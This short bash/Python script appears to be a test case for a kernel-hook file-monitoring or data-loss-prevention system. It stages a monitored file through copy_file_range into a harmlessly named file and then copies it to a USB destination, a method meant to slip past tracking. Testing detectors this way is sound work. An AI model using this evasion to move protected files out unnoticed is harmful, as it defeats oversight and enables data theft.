#!/usr/bin/env bash
# technique: copy_file_range to the own disk, and from there to the USB disk
# hooks: file_open, file_permission
# sink: usb

. attack.sh
# The kernel knows it on one file system only.
python3 - <<'PY'
from attack import *

source = os.open(SCAN, os.O_RDONLY)
target = os.open(f"{ROOM}/innocent", os.O_WRONLY | os.O_CREAT)
while os.copy_file_range(source, target, 1 << 20):
    pass
PY
cp "$ROOM/innocent" "$COPY"
